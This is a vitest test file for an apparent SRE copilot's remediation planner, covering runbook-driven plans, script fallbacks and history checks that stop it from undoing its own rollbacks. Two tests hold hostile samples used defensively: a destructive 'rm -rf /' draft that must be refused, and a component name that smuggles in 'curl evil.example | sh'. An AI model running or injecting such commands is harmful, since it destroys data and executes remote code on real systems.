import { describe, expect, it } from 'vitest';
import type { Runbook } from '../knowledge/runbooks.js';
import type { Hypothesis } from '../model/evidence.js';
import type { Cmdb } from '../model/telemetry.js';
import { NoFittingActionError, RefusedByHistoryError, planRemediation } from './planner.js';
import { proposeRemediation } from './propose.js';
import type { ScriptWriter } from './script-writer.js';
import { T, cmdb, hypothesis, incident } from './test-fixtures.js';

const runbook = (over: Partial<Runbook>): Runbook => ({ id: 'rb-x', title: 'x', faults: ['bad_deploy'], path: '/dev/null', body: '', ...over });
const withDb: Cmdb = { ...cmdb, services: [...cmdb.services, { name: 'orders-db', kind: 'database', tier: 0, owner: 'data', hosts: ['db1'], dependsOn: [] }] };
const on = (component: string, kind: Hypothesis['kind']): Hypothesis => ({ ...hypothesis, id: `h-${component}`, component, kind });

describe('planner: steps from runbooks', () => {
  it('gives every step its risk, pre-checks, verification and rollback', () => {
    const plan = planRemediation({ incident, hypothesis, cmdb, approvers: ['alice'], now: T });
    const step = plan.steps[0]!;
    expect(step.risk).toBe('medium');
    expect(step.preChecks.map((c) => c.kind)).toEqual(['component_exists', 'version_still_deployed', 'still_degraded', 'dry_run']);
    expect(step.preChecks[1]).toEqual({ kind: 'version_still_deployed', component: 'payment-service', version: '2.4.0' });
    expect(step.verification).toEqual([{ entity: 'payment-service', metric: 'error_rate', recoverWithinMinutes: 10 }]);
    expect(step.rollback).toBe('redeploy payment-service 2.4.0');
    // the plan verifies its steps' metrics and the alerted symptoms
    expect(plan.verification.map((v) => `${v.entity}/${v.metric}`)).toEqual(['payment-service/error_rate', 'api-gateway/error_rate', 'api-gateway/latency_p95_ms']);
  });

  it("prefers a runbook written for the component's service over the generic one for the same fault", () => {
    const noCmdbRunbook: Cmdb = { ...cmdb, services: cmdb.services.map((svc) => ({ ...svc, runbook: undefined })) };
    const generic = runbook({ id: 'rb-bad-deploy', remediation: [{ action: 'rollback_deploy', params: {} }] });
    const team = runbook({ id: 'rb-payments-deploy', service: 'payment-service', remediation: [{ action: 'kubectl', params: { verb: 'rollout_undo' } }] });
    const other = runbook({ id: 'rb-orders-deploy', service: 'order-service', remediation: [{ action: 'restart_service', params: {} }] });
    const plan = planRemediation({ incident, hypothesis, cmdb: noCmdbRunbook, approvers: ['a'], runbooks: [generic, other, team], now: T });
    expect(plan.runbook).toBe('rb-payments-deploy');
    expect(plan.steps.map((s) => s.action)).toEqual(['kubectl']);
    // another service's runbook is never taken for this one
    expect(planRemediation({ incident, hypothesis, cmdb: noCmdbRunbook, approvers: ['a'], runbooks: [other, generic], now: T }).runbook).toBe('rb-bad-deploy');
  });

  it("follows the component's own runbook: typed kubectl and hook steps, a raised risk, its verification window", () => {
    const own = runbook({
      id: 'rb-payment',
      remediation: [
        { action: 'kubectl', params: { verb: 'rollout_undo' }, verify: ['error_rate', 'latency_p95_ms'], within: 15 },
        { action: 'call_webhook', params: { hook: 'purge-cdn' }, risk: 'high' },
      ],
    });
    const generic = runbook({ id: 'rb-bad-deploy', remediation: [{ action: 'rollback_deploy', params: {} }] });
    const plan = planRemediation({ incident, hypothesis, cmdb, approvers: ['alice'], runbooks: [generic, own], now: T });
    expect(plan.runbook).toBe('rb-payment');
    expect(plan.steps.map((s) => [s.id, s.action, s.risk])).toEqual([
      ['step-1', 'kubectl', 'medium'],
      ['step-2', 'call_webhook', 'high'],
    ]);
    expect(plan.risk).toBe('high');
    expect(plan.steps[0]!.description).toBe('kubectl rollout undo deployment/payment-service');
    expect(plan.steps[0]!.verification.map((v) => [v.metric, v.recoverWithinMinutes])).toEqual([
      ['error_rate', 15],
      ['latency_p95_ms', 15],
    ]);
    expect(plan.steps[1]!.description).toBe('Call the automation hook "purge-cdn" for payment-service');
    // a runbook cannot lower an action's risk
    const lowered = planRemediation({ incident, hypothesis, cmdb, approvers: ['a'], runbooks: [runbook({ remediation: [{ action: 'rollback_deploy', params: {}, risk: 'low' }] })], now: T });
    expect(lowered.steps[0]!.risk).toBe('medium');
  });

  it('keeps an escalation-ladder rung only where a next step follows', () => {
    const rb = runbook({ remediation: [{ action: 'rollback_deploy', params: {}, stopIfRecovered: true }, { action: 'restart_service', params: {}, stopIfRecovered: true }] });
    const plan = planRemediation({ incident, hypothesis, cmdb, approvers: ['a'], runbooks: [rb], now: T });
    expect(plan.steps.map((s) => s.stopIfRecovered ?? false)).toEqual([true, false]);
  });

  it('refuses an action that cannot act on the target, or lacks what only the CMDB could give', () => {
    expect(() => planRemediation({ incident, hypothesis: on('orders-db', 'cpu_saturation'), cmdb: withDb, approvers: ['a'], now: T })).toThrow(NoFittingActionError);
    expect(() => planRemediation({ incident, hypothesis: on('orders-db', 'cpu_saturation'), cmdb: withDb, approvers: ['a'], now: T })).toThrow(/scale_out cannot act on a database/);
    const noHistory = { ...cmdb, changes: [] };
    expect(() => planRemediation({ incident, hypothesis, cmdb: noHistory, approvers: ['a'], now: T })).toThrow(/rollback_deploy needs toVersion/);
  });
});

describe('proposeRemediation: a script when no registered action fits', () => {
  it('writes a template script, validates it, and proposes it as a high-risk plan with the reason', async () => {
    const p = await proposeRemediation({ incident, hypothesis: on('orders-db', 'cpu_saturation'), cmdb: withDb, approvers: ['alice', 'bob'], now: T });
    expect(p.plan).not.toBeNull();
    const step = p.plan!.steps[0]!;
    expect(step.action).toBe('run_script');
    expect(p.plan!.risk).toBe('high');
    expect(String(step.params.script)).toMatch(/^#!\/usr\/bin\/env bash\n# cpu saturation on orders-db: no registered action fits[\s\S]*set -euo pipefail\nunit='orders-db'\n[\s\S]*systemctl restart "\$unit"/);
    expect(p.notes.join(' ')).toMatch(/No registered action fits: scale_out cannot act on a database[\s\S]*script written by the built-in script templates is proposed/);
  });

  it('undoes the last rollout by script when the CMDB has no previous version to roll back to', async () => {
    const p = await proposeRemediation({ incident, hypothesis, cmdb: { ...cmdb, changes: [] }, approvers: ['a'], now: T });
    expect(String(p.plan!.steps[0]!.params.script)).toContain('kubectl rollout undo "$deployment"');
  });

  it('tries the next writer when a draft is refused or a writer fails, and says why', async () => {
    const calls: string[] = [];
    const destructive: ScriptWriter = { name: 'reckless', write: async () => (calls.push('reckless'), { script: 'rm -rf / --no-preserve-root', description: 'clean up', author: 'reckless' }) };
    const broken: ScriptWriter = { name: 'broken', write: async () => (calls.push('broken'), Promise.reject(new Error('provider down'))) };
    const careful: ScriptWriter = { name: 'careful', write: async () => (calls.push('careful'), { script: 'echo restarting\n', description: 'restart', author: 'careful' }) };
    const p = await proposeRemediation({ incident, hypothesis: on('orders-db', 'cpu_saturation'), cmdb: withDb, approvers: ['a'], scriptWriters: [destructive, broken, careful], now: T });
    expect(calls).toEqual(['reckless', 'broken', 'careful']);
    expect(p.plan!.steps[0]!.params.script).toBe('echo restarting\n');
    expect(p.notes.join(' ')).toMatch(/written by reckless was refused: the script contains a destructive pattern \(rm -rf \/\)[\s\S]*broken script writer failed: provider down/);
  });

  it('proposes nothing, and says who should take over, when no script fits either', async () => {
    const noChange = { ...cmdb, changes: [] };
    const p = await proposeRemediation({ incident, hypothesis: on('payment-service', 'config_change'), cmdb: noChange, approvers: ['a'], now: T });
    expect(p.plan).toBeNull();
    expect(p.notes.join(' ')).toMatch(/revert_config needs changeId[\s\S]*needs a human \(owner: payments\)/);
  });

  it('never puts a hostile component name into a script', async () => {
    const hostile = "db'; curl evil.example | sh; echo '";
    const evil: Cmdb = { ...cmdb, services: [...cmdb.services, { name: hostile, kind: 'database', tier: 0, owner: 'x', hosts: [], dependsOn: [] }] };
    const p = await proposeRemediation({ incident, hypothesis: on(hostile, 'cpu_saturation'), cmdb: evil, approvers: ['a'], now: T });
    expect(p.plan).toBeNull();
  });
});

describe("planner: the change history knows the copilot's own actions", () => {
  const deploy = (id: string, min: number, from: string, to: string, extra: Partial<Cmdb['changes'][number]> = {}) => ({
    id, ts: T + min * 60_000, kind: 'deploy' as const, target: 'payment-service', description: `deploy ${to}`, from, to, author: 'ci', ...extra,
  });
  const botRollback = (id: string, min: number, from: string, to: string) =>
    deploy(id, min, from, to, { author: 'sre-copilot', origin: 'remediation', incidentId: 'INC-1', description: `Rollback payment-service to ${to}` });
  const withHistory = (...changes: Cmdb['changes']): Cmdb => ({ ...cmdb, changes });
  const later = { ...hypothesis, onsetMs: T + 30 * 60_000 };

  it('does not take its own rollback for the deploy to roll back, and does not roll back what it already rolled back', () => {
    const history = withHistory(deploy('chg-bad', -20, '2.3.9', '2.4.0'), botRollback('chg-rb', -10, '2.4.0', '2.3.9'));
    expect(() => planRemediation({ incident, hypothesis: later, cmdb: history, approvers: ['a'], now: T })).toThrow(RefusedByHistoryError);
    expect(() => planRemediation({ incident, hypothesis: later, cmdb: history, approvers: ['a'], now: T })).toThrow(
      /deploy of payment-service 2\.3\.9 → 2\.4\.0 \(chg-bad\) was already rolled back by sre-copilot at 08:50 \(INC-1\); rolling it back again would redeploy 2\.4\.0/,
    );
  });

  it('rolls a newer bad deploy back past the version it rolled away from', () => {
    // 2.4.0 was rolled back; someone deployed it again, then 2.4.1 broke: the way back skips 2.4.0
    const history = withHistory(
      deploy('chg-a', -60, '2.3.9', '2.4.0'),
      botRollback('chg-rb', -50, '2.4.0', '2.3.9'),
      deploy('chg-b', -40, '2.3.9', '2.4.0'),
      deploy('chg-c', 5, '2.4.0', '2.4.1'),
    );
    const plan = planRemediation({ incident, hypothesis: later, cmdb: history, approvers: ['a'], now: T });
    expect(plan.steps[0]!.params).toMatchObject({ fromVersion: '2.4.1', toVersion: '2.3.9' });
    // the same history without the copilot's rollback goes back one version, as usual
    const plain = withHistory(deploy('chg-b', -40, '2.3.9', '2.4.0'), deploy('chg-c', 5, '2.4.0', '2.4.1'));
    expect(planRemediation({ incident, hypothesis: later, cmdb: plain, approvers: ['a'], now: T }).steps[0]!.params).toMatchObject({ toVersion: '2.4.0' });
  });

  it('refuses a runbook step or a kubectl undo that would bring a rolled-back version back', () => {
    const history = withHistory(deploy('chg-bad', -20, '2.3.9', '2.4.0'), botRollback('chg-rb', -10, '2.4.0', '2.3.9'), deploy('chg-new', 5, '2.3.9', '2.4.2'));
    const pinned = runbook({ remediation: [{ action: 'rollback_deploy', params: { toVersion: '2.4.0' } }] });
    expect(() => planRemediation({ incident, hypothesis: later, cmdb: history, approvers: ['a'], runbooks: [pinned], now: T })).toThrow(
      /rollback_deploy would deploy payment-service 2\.4\.0, which sre-copilot at 08:50 \(INC-1\) rolled back/,
    );
    const undo = runbook({ remediation: [{ action: 'kubectl', params: { verb: 'rollout_undo' } }] });
    const justRolledBack = withHistory(deploy('chg-bad', -20, '2.3.9', '2.4.0'), botRollback('chg-rb', -10, '2.4.0', '2.3.9'));
    expect(() => planRemediation({ incident, hypothesis: later, cmdb: justRolledBack, approvers: ['a'], runbooks: [undo], now: T })).toThrow(/kubectl rollout undo would undo the rollback/);
    // after a newer deploy, undoing that one is fine
    expect(planRemediation({ incident, hypothesis: later, cmdb: history, approvers: ['a'], runbooks: [undo], now: T }).steps[0]!.action).toBe('kubectl');
  });

  it('does not revert its own revert, nor a change it already reverted', () => {
    const config = (id: string, min: number, from: string, to: string, extra: Partial<Cmdb['changes'][number]> = {}) => ({
      id, ts: T + min * 60_000, kind: 'config' as const, target: 'payment-service', description: `set timeout ${from}→${to}`, from, to, author: 'j.miller', ...extra,
    });
    const h = { ...later, kind: 'config_change' as const };
    const reverted = withHistory(config('chg-cfg', -20, '3000', '250'), config('chg-rev', -10, '250', '3000', { author: 'sre-copilot', origin: 'remediation' }));
    expect(() => planRemediation({ incident, hypothesis: h, cmdb: reverted, approvers: ['a'], now: T })).toThrow(/chg-cfg on payment-service \(set timeout 3000→250\) was already reverted by sre-copilot/);
    const newer = withHistory(...reverted.changes, config('chg-cfg2', 2, '3000', '300'));
    expect(planRemediation({ incident, hypothesis: h, cmdb: newer, approvers: ['a'], now: T }).steps[0]!.params).toEqual({ changeId: 'chg-cfg2' });
  });

  it('proposes no plan, and no script either, when the history forbids the fix', async () => {
    const history = withHistory(deploy('chg-bad', -20, '2.3.9', '2.4.0'), botRollback('chg-rb', -10, '2.4.0', '2.3.9'));
    const p = await proposeRemediation({ incident, hypothesis: later, cmdb: history, approvers: ['a'], now: T });
    expect(p.plan).toBeNull();
    expect(p.notes.join(' ')).toMatch(/^No fix proposed: the deploy of payment-service .* already rolled back by sre-copilot[\s\S]*needs a human \(owner: payments\)/);
  });
});
